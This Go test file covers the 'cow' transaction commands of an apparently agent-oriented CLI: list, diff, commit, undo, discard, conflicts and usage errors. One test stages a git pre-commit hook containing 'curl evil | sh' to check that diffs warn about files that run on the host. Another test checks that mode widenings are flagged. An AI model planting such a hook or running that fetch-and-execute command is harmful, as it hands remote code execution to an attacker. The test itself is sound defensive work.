package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pulse-agent/pulse/cowfs"
)

func stageTx(t *testing.T, ws, rel, content string) string {
	t.Helper()
	f, err := cowfs.Open(t.Context(), ws)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tx, err := f.Begin(t.Context(), "cli test")
	if err != nil {
		t.Fatal(err)
	}
	if err := tx.Write(t.Context(), rel, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return tx.ID()
}

func TestCowListDiffCommitUndo(t *testing.T) {
	ws := t.TempDir()
	if err := os.WriteFile(filepath.Join(ws, "a.txt"), []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	id := stageTx(t, ws, "a.txt", "two\n")

	code, out, errOut := runCLI(t, "cow", "list", "--json", "--workspace", ws)
	if code != exitOK {
		t.Fatalf("list: %d %s", code, errOut)
	}
	var infos []cowfs.TxInfo
	if err := json.Unmarshal([]byte(out), &infos); err != nil {
		t.Fatalf("list json: %v\n%s", err, out)
	}
	if len(infos) != 1 || infos[0].ID != id || infos[0].State != cowfs.StateOpen {
		t.Fatalf("list = %+v", infos)
	}

	code, out, _ = runCLI(t, "cow", "diff", id, "--workspace", ws)
	if code != exitOK || !strings.Contains(out, "-one\n+two\n") || !strings.Contains(out, "diff --git a/a.txt b/a.txt") {
		t.Fatalf("diff: %d %q", code, out)
	}

	code, out, errOut = runCLI(t, "cow", "commit", "--json", "--workspace", ws, id)
	if code != exitOK {
		t.Fatalf("commit: %d %s", code, errOut)
	}
	var res struct {
		Committed []string `json:"committed"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil || len(res.Committed) != 1 || res.Committed[0] != "a.txt" {
		t.Fatalf("commit json %q: %v", out, err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(b) != "two\n" {
		t.Fatalf("a.txt = %q", b)
	}

	code, _, errOut = runCLI(t, "cow", "undo", "--workspace", ws)
	if code != exitOK {
		t.Fatalf("undo: %d %s", code, errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(b) != "one\n" {
		t.Fatalf("after undo a.txt = %q", b)
	}
}

func TestCowConflictExitsOne(t *testing.T) {
	ws := t.TempDir()
	p := filepath.Join(ws, "a.txt")
	if err := os.WriteFile(p, []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	id := stageTx(t, ws, "a.txt", "two\n")
	if err := os.WriteFile(p, []byte("someone else\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, _ := runCLI(t, "cow", "commit", id, "--json", "--workspace", ws)
	if code != exitFailure {
		t.Fatalf("conflicting commit exit %d, want %d", code, exitFailure)
	}
	var res struct {
		Conflict cowfs.ConflictError `json:"conflict"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil || res.Conflict.Path != "a.txt" || res.Conflict.Reason != cowfs.ReasonModified {
		t.Fatalf("conflict json %q: %v", out, err)
	}
	// The transaction is kept; discard works and then it is gone.
	if code, _, errOut := runCLI(t, "cow", "discard", id, "--workspace", ws); code != exitOK {
		t.Fatalf("discard: %d %s", code, errOut)
	}
	if code, _, _ := runCLI(t, "cow", "diff", id, "--workspace", ws); code != exitFailure {
		t.Fatalf("diff of discarded tx exit %d", code)
	}
}

func TestCowUsage(t *testing.T) {
	ws := t.TempDir()
	for _, args := range [][]string{
		{"cow"},
		{"cow", "frobnicate"},
		{"cow", "diff", "a", "b"},
		{"cow", "commit"},
		{"cow", "commit", "--all", "a"},
		{"cow", "list", "--all"},
		{"cow", "list", "extra"},
		{"cow", "commit", "a", "b"},
		{"cow", "list", "--no-such-flag"},
	} {
		args = append(args, "--workspace", ws)
		if code, _, _ := runCLI(t, args...); code != exitUsage {
			t.Errorf("%v: exit %d, want %d", args, code, exitUsage)
		}
	}
}

func TestCowOnAWorkspaceWithoutStateCreatesNone(t *testing.T) {
	ws := t.TempDir()
	code, _, stderr := runCLI(t, "cow", "list", "--workspace", ws)
	if code != exitOK || !strings.Contains(stderr, "no transactions") {
		t.Fatalf("list: exit %d, stderr %q", code, stderr)
	}
	code, _, stderr = runCLI(t, "cow", "diff", "--workspace", ws, "0123456789abcdef")
	if code != exitFailure || !strings.Contains(stderr, "is --workspace right?") {
		t.Fatalf("diff: exit %d, stderr %q", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(ws, ".pulse")); !os.IsNotExist(err) {
		t.Fatalf("a review command created state: %v", err)
	}
}

func TestCowDiffMarksWhatRunsOnTheHost(t *testing.T) {
	ws := t.TempDir()
	id := stageTx(t, ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	code, out, errOut := runCLI(t, "cow", "diff", id, "--workspace", ws)
	if code != exitOK {
		t.Fatalf("diff: %d %s", code, errOut)
	}
	if !strings.Contains(out, ".git/hooks/pre-commit  (runs on the host)") || !strings.HasPrefix(out, "WARNING") {
		t.Fatalf("diff does not mark the hook as running on the host:\n%s", out)
	}
	code, out, _ = runCLI(t, "cow", "diff", "--json", id, "--workspace", ws)
	var res struct {
		RunsOnHost []string `json:"runs_on_host"`
	}
	if err := json.Unmarshal([]byte(out), &res); code != exitOK || err != nil || len(res.RunsOnHost) != 1 || res.RunsOnHost[0] != ".git/hooks/pre-commit" {
		t.Fatalf("json diff: %d %v %s", code, err, out)
	}

	if code, out, _ := runCLI(t, "cow", "list", "--workspace", ws); code != exitOK || !strings.Contains(out, "[runs on the host") {
		t.Fatalf("list does not mark the transaction: %d\n%s", code, out)
	}

	// An ordinary file gets no banner.
	id = stageTx(t, ws, "src/a.txt", "a\n")
	if _, out, _ := runCLI(t, "cow", "diff", id, "--workspace", ws); strings.Contains(out, "runs on the host") {
		t.Fatalf("an ordinary file is marked:\n%s", out)
	}
}

// TestCowDiffFlagsModeChanges: a chmod of a file or directory the
// workspace has is one line in a long diff; `pulse cow diff` names each
// above the diff, and says when others may now write it. The per-command
// rule (sandbox) never widens write bits, but a transaction staged by
// other means, or a narrowing, still changes modes.
func TestCowDiffFlagsModeChanges(t *testing.T) {
	ws := t.TempDir()
	must(t, os.WriteFile(filepath.Join(ws, ".env"), []byte("x\n"), 0o600))
	must(t, os.Chmod(filepath.Join(ws, ".env"), 0o600))
	must(t, os.Mkdir(filepath.Join(ws, "objects"), 0o755))
	must(t, os.Chmod(filepath.Join(ws, "objects"), 0o755))
	must(t, os.WriteFile(filepath.Join(ws, "same.txt"), []byte("s\n"), 0o644))
	must(t, os.Chmod(filepath.Join(ws, "same.txt"), 0o644))
	f, err := cowfs.Open(t.Context(), ws)
	must(t, err)
	tx, err := f.Begin(t.Context(), "chmod")
	must(t, err)
	must(t, tx.Write(t.Context(), ".env", []byte("x\n"), 0o666))
	must(t, tx.Mkdir(t.Context(), "objects", 0o777))
	must(t, tx.Write(t.Context(), "same.txt", []byte("t\n"), 0o644))
	id := tx.ID()
	f.Close()

	code, out, errOut := runCLI(t, "cow", "diff", id, "--workspace", ws)
	if code != exitOK {
		t.Fatalf("diff: %d %s", code, errOut)
	}
	for _, want := range []string{"MODE CHANGE", ".env  0600 -> 0666  (now writable by group and others)", "objects  0755 -> 0777  (now writable by group and others)"} {
		if !strings.Contains(out, want) {
			t.Errorf("diff lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "same.txt  0") {
		t.Errorf("a file whose mode did not change is flagged:\n%s", out)
	}
	if _, out, _ := runCLI(t, "cow", "diff", "--workspace", ws); !strings.Contains(out, ".env  0600 -> 0666") {
		t.Errorf("the stack's diff lacks the mode change:\n%s", out)
	}
}
